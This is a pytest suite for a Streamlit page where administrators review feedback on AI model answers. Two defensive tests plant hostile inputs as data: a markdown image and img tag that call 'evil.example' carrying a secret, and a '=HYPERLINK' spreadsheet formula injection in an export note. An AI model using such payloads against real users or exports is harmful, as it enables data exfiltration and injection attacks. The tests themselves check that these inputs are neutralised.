from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Block

from core.knowledge.records import StoredFile
from core.people.records import AuditFilter, Role
from core.review.records import Feedback, FeedbackFilter, ReviewState
from data.unit_of_work import SqlUnitOfWork
from pages.feedback import PAGE, feedback_csv
from pages.widgets.review.review_case import ALL
from tests.pages.seeded import Stage, as_role, page, stage, texts


@pytest.fixture
def seeded(tmp_path) -> Iterator[Stage]:
    made = stage(tmp_path)
    yield made
    made.portal.close()


def rows(drawn: AppTest) -> list[str]:
    return [button.key.removeprefix("rrow-") for button in drawn.button if button.key.startswith("rrow-")]


def cases(made: Stage, **filter: object) -> list[Feedback]:
    return made.portal.feedback.find(made.admin, FeedbackFilter(**filter), limit=PAGE, poor_first=True)[0]  # type: ignore[arg-type]


def feedback(made: Stage, state: ReviewState | str = ALL) -> AppTest:
    """The page with the tab of this state open."""
    return page("feedback", made).segmented_control(key="feedback-state").set_value(state).run()


def heading(drawn: AppTest) -> str:
    return next(each.value for each in drawn.markdown if each.value.startswith("## "))


def test_no_ratings_says_where_they_come_from(tmp_path) -> None:
    made = stage(tmp_path, empty=True)
    drawn = page("feedback", made)
    assert "No ratings yet" in texts(drawn) and not rows(drawn)
    made.portal.close()


def test_only_admins_see_feedback(seeded: Stage) -> None:
    for role in (Role.ANALYST, Role.MANAGER):
        refused = page("feedback", seeded, as_role(seeded.admin, role))
        assert not rows(refused) and "does not allow this" in texts(refused)


def test_the_page_opens_on_new_cases_the_poor_ones_first_each_newest_first(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    assert not drawn.exception and drawn.segmented_control(key="feedback-state").value is ReviewState.NEW
    expected = sorted(cases(seeded, state=ReviewState.NEW), key=lambda case: (case.rating, -case.created_at.timestamp()))
    assert {case.rating for case in expected} == {-1, 1}
    assert rows(drawn) == [case.id for case in expected]
    assert f"**{expected[0].user_name}**" in texts(drawn).replace("\\", "")


def test_state_rating_and_model_narrow_the_list(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    drawn.segmented_control(key="feedback-state").set_value(ReviewState.NEW).run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW)]
    drawn.segmented_control(key="feedback-rating").set_value(-1).run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW, rating=-1)]
    drawn.button(key="feedback-clear").click().run()
    drawn.selectbox(key="feedback-model").set_value("GLM-4.5-Air-Q4_K_M").run()
    assert rows(drawn) == [case.id for case in cases(seeded, state=ReviewState.NEW, model="GLM-4.5-Air-Q4_K_M")]


def test_both_chosen_days_belong_to_the_range(seeded: Stage) -> None:
    drawn = feedback(seeded)
    day = cases(seeded)[-1].created_at.date()
    drawn.date_input(key="feedback-dates").set_value((day, day)).run()
    start = datetime(day.year, day.month, day.day, tzinfo=UTC)
    expected = [case.id for case in cases(seeded, since=start, until=start + timedelta(days=1))]
    assert expected and rows(drawn) == expected


def test_search_finds_words_of_the_question_and_tells_when_nothing_matches(seeded: Stage) -> None:
    drawn = feedback(seeded)
    case = next(case for case in cases(seeded) if case.question and "SQL" in case.question)
    drawn.text_input(key="feedback-search").set_value("logins office").run()
    assert case.id in rows(drawn) and len(rows(drawn)) < len(cases(seeded))
    drawn.text_input(key="feedback-search").set_value("zzyzx").run()
    assert not rows(drawn) and "No cases match" in texts(drawn)


def test_next_and_previous_walk_the_list(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    order = rows(drawn)
    assert drawn.button(key="icon-rvprev").disabled
    drawn.button(key="icon-rvnext").click().run()
    assert drawn.session_state["feedback-case"] == order[1]
    drawn.button(key="icon-rvprev").click().run()
    assert drawn.session_state["feedback-case"] == order[0]


def test_resolving_in_the_new_tab_opens_the_next_new_case(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    drawn.segmented_control(key="feedback-state").set_value(ReviewState.NEW).run()
    first, second = rows(drawn)[:2]
    drawn.button(key=f"rrow-{first}").click().run()
    drawn.button(key="rvresolve").click().run()
    assert seeded.portal.feedback.get(seeded.admin, first).state is ReviewState.RESOLVED
    assert first not in rows(drawn) and drawn.session_state["feedback-case"] == second


def test_a_started_review_names_its_reviewer(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    case = next(case for case in cases(seeded) if case.state is ReviewState.NEW)
    drawn.button(key=f"rrow-{case.id}").click().run()
    drawn.button(key="rvstart").click().run()
    stored = seeded.portal.feedback.get(seeded.admin, case.id)
    assert (stored.state, stored.reviewer_name) == (ReviewState.IN_REVIEW, "mei")
    assert drawn.button(key="rvstart").disabled
    assert case.id not in rows(drawn)
    drawn.button(key="icon-rvnext").click().run()
    assert drawn.session_state["feedback-case"] == rows(drawn)[0]


def test_a_deleted_chat_keeps_its_rating_and_says_that_its_text_is_gone(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.question)
    owner = next(user for user in seeded.portal.accounts.people(seeded.admin) if user.id == case.user_id)
    seeded.portal.conversations.delete(owner, case.conversation_id)
    drawn = feedback(seeded)
    drawn.button(key=f"rrow-{case.id}").click().run()
    assert heading(drawn) == "## Deleted chat" and "deleted this chat" in texts(drawn)


def test_model_text_cannot_load_pictures_or_become_html(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.answer)
    with SqlUnitOfWork(seeded.portal.database) as work:
        message = work.messages.get(case.message_id)
        assert message is not None
        hostile = "![x](http://evil.example/?q=secret) <img src=http://evil.example/2>"
        work.messages.finish(message.id, message.status, hostile, "", None)
        work.commit()
    drawn = feedback(seeded)
    drawn.button(key=f"rrow-{case.id}").click().run()
    shown = texts(drawn)
    assert "[x](<http://evil.example/?q=secret>" in shown, "a link"
    assert "![x" not in shown and "<img src=" not in shown


def test_the_page_speaks_chinese(seeded: Stage) -> None:
    drawn = page("feedback", seeded, language="zh")
    assert drawn.button(key="icon-rvnext") is not None and any(button.label in ("解决", "重新打开") for button in drawn.button)


def test_the_export_holds_every_match_and_runs_no_formula(seeded: Stage) -> None:
    case = cases(seeded)[0]
    seeded.portal.feedback.review(seeded.admin, case.id, note='=HYPERLINK("http://evil.example","x")')
    exported = feedback_csv(seeded.portal.feedback.all(seeded.admin, FeedbackFilter())).decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(exported)))
    assert len(lines) == sum(seeded.portal.feedback.counts(seeded.admin).values())
    assert next(line["note"] for line in lines if line["id"] == case.id).startswith("'=HYPERLINK")


def test_a_click_keeps_the_list_where_it_is(seeded: Stage) -> None:
    """A container with another key is another container: the browser would draw it anew, scrolled to its top."""

    def panes(drawn: AppTest) -> list[str]:
        return [str(each.key) for each in drawn.main if isinstance(each, Block) and str(each.key).startswith("rv")]

    drawn = page("feedback", seeded)
    before = panes(drawn)
    assert "rvlist" in before
    drawn.button(key=f"rrow-{rows(drawn)[3]}").click().run()
    assert [each for each in panes(drawn) if each in before] == [each for each in before if each in panes(drawn)]
    assert {"rv", "rvlist", "rvcase", "rvprops"} <= {*panes(drawn)} & {*before}


def test_reopening_has_another_key_than_resolving(seeded: Stage) -> None:
    """Who walks on with J and resolves with E must not undo what was done before."""
    drawn = feedback(seeded, ReviewState.RESOLVED)
    assert drawn.button(key="rvreopen").proto.shortcut not in ("", "e")
    drawn = feedback(seeded, ReviewState.NEW)
    assert drawn.button(key="rvresolve").proto.shortcut == "e"


def test_a_case_shows_the_chat_before_it_its_files_and_its_thinking(seeded: Stage) -> None:
    case = next(case for case in cases(seeded, state=ReviewState.NEW) if case.question)
    with SqlUnitOfWork(seeded.portal.database) as work:
        answer = work.messages.get(case.message_id)
        assert answer is not None and answer.parent_id is not None
        question = work.messages.get(answer.parent_id)
        assert question is not None
        chat = question.conversation_id
        asked = replace(question, id="earlier-q", parent_id=question.parent_id, text="What came before?", files=())
        said = replace(answer, id="earlier-a", parent_id="earlier-q", text="Something else came before.")
        work.messages.add(asked)
        work.messages.add(said)
        work.messages.add(replace(question, id="now-q", parent_id="earlier-a", text="And now?"))
        work.messages.add(replace(answer, id="now-a", parent_id="now-q", text="Now this."))
        work.messages.finish("now-a", answer.status, "Now this.", "First I weigh it.", None)
        work.files.add(StoredFile("f1", case.user_id, "ledger.csv", 2100, answer.created_at), b"a,b", None)
        work.files.attach("now-q", chat, ["f1"])
        work.feedback.put(replace(case, id="new-case", message_id="now-a", created_at=datetime.now(UTC)))
        work.commit()
    drawn = feedback(seeded)
    drawn.button(key="rrow-new-case").click().run()
    shown = texts(drawn).replace("\\", "")
    assert "What came before?" in shown and "Something else came before." in shown
    assert "First I weigh it." in shown and "ledger.csv" in shown and "2 kB" in shown


def test_opening_a_case_and_exporting_are_recorded(seeded: Stage) -> None:
    page("feedback", seeded)
    list(seeded.portal.feedback.all(seeded.admin, FeedbackFilter()))
    events = [entry.event for entry in seeded.portal.audit.find(seeded.admin, AuditFilter()).entries]
    opened = [event for event in events if event.action == "feedback.open"]
    assert [event.subject for event in opened] == [cases(seeded, state=ReviewState.NEW)[0].id]
    assert [event.action for event in events].count("feedback.export") == 1


def test_an_answer_is_accepted_for_the_replay_gate_by_who_runs_the_models(seeded: Stage) -> None:
    drawn = page("feedback", seeded)
    drawn.button(key="rvaccept").click().run()
    [kept] = seeded.portal.swaps.replays(seeded.admin)
    assert kept.question and kept.accepted
    assert f"Accepted. A swap of {kept.model}" in drawn.toast[0].value.replace("\\", "")
    drawn.button(key="rvaccept").click().run()
    assert "already" in drawn.toast[0].value
    reviewer = page("feedback", seeded, as_role(seeded.admin, Role.REVIEWER))
    assert rows(reviewer)
    assert "rvaccept" not in {button.key for button in reviewer.button}
